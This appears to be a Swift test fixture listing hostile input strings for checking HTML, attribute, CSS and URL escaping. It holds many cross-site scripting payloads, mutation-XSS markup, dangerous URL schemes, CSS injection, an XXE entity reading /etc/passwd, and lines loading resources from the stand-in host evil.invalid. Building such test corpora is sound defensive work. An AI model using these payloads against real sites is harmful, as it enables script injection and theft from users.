/// Texts of the usual classes that try to run scripts or to escape from their place.
///
/// Scripts in them call `hit()`, which the tests' pages define; addresses in them load
/// `evil.invalid`.
enum HostileText {
  static let all: [String] =
    markup + attributes + entities + characters + styles + addresses + mutations + ends + long

  private static let markup: [String] = [
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script >hit()</script >",
    "<script/x>hit()</script>", "<script src=//evil.invalid/x.js></script>",
    "<script src=data:,hit()></script>", "<script type=module>hit()</script>",
    "</label><script>hit()</script>", "</button><script>hit()</script>",
    "</textarea><script>hit()</script>", "</title><script>hit()</script>",
    "</option></select><script>hit()</script>", "</style><script>hit()</script>",
    "</body></html><script>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit()//<</script>", "<script\u{0}>hit()</script>", "<script\t>hit()</script>",
    "<img src=x onerror=hit()>", "<img src=x onerror='hit()'>", "<img src=x onerror=\"hit()\">",
    "<IMG SRC=x ONERROR=hit()>", "<img/src=x/onerror=hit()>", "<img src=//evil.invalid/i.png>",
    "<image src=x onerror=hit()>", "<svg onload=hit()>", "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>", "<svg><set onbegin=hit() attributeName=x>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<math><mi href=javascript:hit()>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>top.hit()</script>'>",
    "<iframe src=//evil.invalid></iframe>", "<frameset onload=hit()>", "<body onload=hit()>",
    "<object data=javascript:hit()></object>", "<embed src=javascript:hit()>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<form action=javascript:hit()><input type=submit></form>",
    "<button formaction=javascript:hit()>x</button>", "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>", "<video src=x onerror=hit()>", "<audio src=x onerror=hit()>",
    "<video><source onerror=hit()></video>", "<marquee onstart=hit()>x</marquee>",
    "<style>@import '//evil.invalid/x.css';</style>", "<style onload=hit()></style>",
    "<a href=javascript:hit()>x</a>", "<div style=background:url(//evil.invalid/x)>x</div>",
    "<p onmouseover=hit()>x</p>", "<template><script>hit()</script></template>",
    "<noscript><img src=x onerror=hit()></noscript>", "<xmp><script>hit()</script></xmp>",
    "<plaintext>", "<table><script>hit()</script>", "<isindex action=javascript:hit()>",
  ]

  private static let attributes: [String] = [
    "\" onclick=\"hit()", "' onclick='hit()", "\" onfocus=hit() autofocus=\"",
    "' onfocus=hit() autofocus='", "\"><script>hit()</script>", "'><script>hit()</script>",
    "\"><img src=x onerror=hit()>", "'><img src=x onerror=hit()>", "\"/onload=hit() x=\"",
    "\" style=\"x:expression(hit())", "\" src=x onerror=\"hit()", "x onmouseover=hit()",
    "`onclick=hit()", "`><script>hit()</script>", "\"", "'", "\"'", "'\"", "`", "\\\"", "\\'",
    "\"\"", "''", "a=b", "=", ">", "<", "/>", "\" \"", "\" id=\"n0", "\" class=\"now",
    "\" data-theme=\"x", "\"\n onclick=\"hit()", "\"\tonclick=\"hit()", "\"\u{C}onclick=\"hit()",
    "\" type=\"image\" src=x onerror=\"hit()", "\" formaction=\"javascript:hit()",
  ]

  private static let entities: [String] = [
    "&", "&&", "&amp;", "&amp;amp;", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;",
    "&#x3c;script&#x3e;", "&#x3C", "&#60", "&lt", "&LT;", "&quot;", "&quot", "&apos;", "&#39;",
    "&#0;", "&#x0;", "&#xD800;", "&#x110000;", "&#128;", "&nbsp;", "&nbsp", "&notin;", "&notit;",
    "&NewLine;", "&Tab;", "&colon;", "&lpar;", "&bogus;", "&;", "&#;", "&#x;", "a&b=c&copy=d",
    "&#106;avascript:hit()", "&quot;onclick=hit()", "&gt;&lt;img src=x onerror=hit()>",
  ]

  private static let characters: [String] = [
    "a\u{0}b", "\u{0}", "<\u{0}script>hit()</script>", "a\u{1}b", "a\u{8}b", "a\u{B}b",
    "a\u{C}b", "a\u{1B}[31mb", "a\u{7F}b", "a\u{80}b", "a\u{85}b", "a\u{9F}b", "a\rb", "a\nb",
    "a\r\nb", "\n", "\r", "\n\n", "\r\n\r\n", "\t", " ", "  a  b  ", "", "\u{A0}", "\u{AD}",
    "\u{200B}", "\u{200E}a", "\u{200F}a", "\u{202A}a\u{202C}", "\u{202E}gnp.exe",
    "\u{2066}a\u{2069}",
    "\u{2028}", "\u{2029}", "\u{FEFF}", "\u{FFFD}", "\u{FFFE}", "\u{FFFF}", "\u{10FFFF}",
    "\u{1F469}\u{200D}\u{1F4BB}", "e\u{301}", "\u{130}\u{131}", "\u{FF1C}script\u{FF1E}hit()",
    "\u{2039}script\u{203A}", "\u{2BC}onclick=hit()", "\u{E000}", "日本", "العربية", "\u{2A}",
  ]

  private static let styles: [String] = [
    "</style>", "</STYLE >", "</style/>", "</style\n>", "<style>*{color:red}</style>",
    "};*{background:url(//evil.invalid/x)}", "\"};*{background:url(//evil.invalid/x)}",
    "');background:url(//evil.invalid/x);a:('", "\\\"}*{color:red}", "\\", "\\\\", "\\22",
    "\\3c /style\\3e", "@import url(//evil.invalid/x);", "url(javascript:hit())",
    "expression(hit())", "/*", "*/", "/**/", "<!--", "-->", "{", "}", ";", ":", "!important",
    "a;color:red", "a{b}", "\"\\\n\"", "inherit", "initial", "sans-serif", "var(--x)",
    "behavior:url(x)", "-moz-binding:url(x)", "\u{C}}*{color:red}", "1st family", "a,b",
  ]

  private static let addresses: [String] = [
    "javascript:hit()", "JavaScript:hit()", "JAVASCRIPT:hit()", " javascript:hit()",
    "\tjavascript:hit()", "\njavascript:hit()", "java\tscript:hit()", "java\nscript:hit()",
    "java\rscript:hit()", "\u{1}javascript:hit()", "\u{0}javascript:hit()", "javascript\u{0}:hit()",
    "javascript:hit()//", "javascript://%0ahit()", "javascript:/*x*/hit()", "javascript\n:hit()",
    "javascript :hit()", "javascript&colon;hit()", "javascript&#58;hit()", "javascript%3Ahit()",
    "\u{FEFF}javascript:hit()", "jav\u{AD}ascript:hit()", "ｊavascript:hit()", "vbscript:hit()",
    "livescript:hit()", "data:text/html,<script>top.hit()</script>", "data:,hit()",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=", "DATA:TEXT/HTML,x",
    "data:image/svg+xml,<svg onload=hit()>", "view-source:javascript:hit()",
    "feed:javascript:hit()",
    "blob:x", "filesystem:x", "about:blank", "file:///etc/passwd", "ftp://evil.invalid/x",
    "\\\\evil.invalid\\x", "x:y", ":", "//", "?", "#", "..", ".", "a:b", "%", "%00",
    "mhtml:x", "jar:x!/y", "ms-its:x", "intent://x", "tel:1", "mailto:x",
  ]

  private static let mutations: [String] = [
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<a title='`'><b title=\"<img onerror=hit()>\">",
    "<svg><title><style><img title=\"</style><img src=x onerror=hit()>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=hit()></annotation-xml></math>",
    "<div id=x><table><td></div><script>hit()</script>",
    "<option><style></option></select><img src=x onerror=hit()>",
    "<!--><script>hit()</script>-->", "<!--a--!><script>hit()</script>",
    "<!-- --><img src=x onerror=hit()>",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    "<svg><desc><noscript></desc></noscript></desc><s></s><style><a title=\"</style><img src onerror=hit()>\">",
    "<xss style=animation-name:turn onanimationstart=hit()>",
    "<input type=image src=x onerror=hit()>",
  ]

  private static let ends: [String] = [
    "-->", "--!>", "<!--", "<!-->", "<!--->", "]]>", "<![CDATA[<script>hit()</script>]]>",
    "<![CDATA[",
    "<?xml version=\"1.0\"?>", "<?php hit() ?>", "<%= hit() %>", "{{hit()}}", "${hit()}",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "</", "</>", "</ script>", "<a", "<a b=\"", "<!",
    "<?", "<>",
    "hit()", "');hit();('", "\";hit();\"", "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()",
  ]

  private static let long: [String] = [
    String(repeating: "a", count: 20_000), String(repeating: "<", count: 5_000),
    String(repeating: "&quot;", count: 2_000), String(repeating: "\"'", count: 3_000),
    String(repeating: "<b>", count: 1_000), String(repeating: "é", count: 9_999),
    String(repeating: "\u{1F642}", count: 3_000) + "<script>hit()</script>",
  ]
}
